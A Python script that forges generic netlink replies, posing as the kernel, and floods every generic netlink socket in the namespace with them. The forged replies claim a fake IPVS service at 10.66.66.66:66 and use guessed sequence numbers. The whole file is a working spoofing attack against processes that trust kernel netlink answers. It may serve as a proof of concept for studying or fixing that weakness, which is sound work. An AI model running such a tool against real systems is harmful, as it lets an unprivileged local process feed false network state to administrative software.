# SPDX-License-Identifier: MIT
"""Sends forged answers of the kernel to all generic netlink sockets of this network namespace, until it is killed: a service
10.66.66.66:66 for sequence numbers that are easily guessed, and those after them. Prints how many the kernel let through and
how many it refused, at each round.

    forger.py FAMILY      the number of IPVS's generic netlink family
"""

import socket
import struct
import sys

GENERIC_NETLINK = 16
NLMSG_DONE = 3
MULTI = 2
NEW_SERVICE = 1


def attribute(kind, data):
    length = 4 + len(data)
    return struct.pack("=HH", length, kind) + data + b"\0" * (-length % 4)


def message(family, sequence, payload):
    return struct.pack("=IHHII", 16 + len(payload), family, MULTI, sequence, 0) + payload


def service():
    entry = b"".join(
        attribute(kind, data)
        for kind, data in (
            (1, struct.pack("=H", socket.AF_INET)),
            (2, struct.pack("=H", 6)),
            (3, bytes([10, 66, 66, 66]) + bytes(12)),
            (4, struct.pack(">H", 66)),
            (6, b"rr\0"),
            (7, struct.pack("=II", 0, 0xFFFFFFFF)),
            (8, struct.pack("=I", 0)),
            (9, struct.pack("=I", 0xFFFFFFFF)),
        )
    )
    return struct.pack("=BBH", NEW_SERVICE, 1, 0) + attribute(0x8001, entry)


def ports():
    with open("/proc/net/netlink", encoding="ascii") as table:
        next(table)
        for line in table:
            words = line.split()
            if int(words[1]) == GENERIC_NETLINK and int(words[2]) > 0:
                yield int(words[2])


def main():
    family = int(sys.argv[1])
    sender = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, GENERIC_NETLINK)
    sender.bind((0, 0))
    own = sender.getsockname()[0]
    sent = refused = 0
    while True:
        for port in ports():
            if port == own:
                continue
            packet = b"".join(
                message(family, sequence, service()) + message(NLMSG_DONE, sequence, struct.pack("=i", 0))
                for sequence in range(1, 40)
            )
            try:
                sender.sendto(packet, socket.MSG_DONTWAIT, (port, 0))
                sent += 1
            except OSError:
                refused += 1
        print(sent, refused, flush=True)


main()
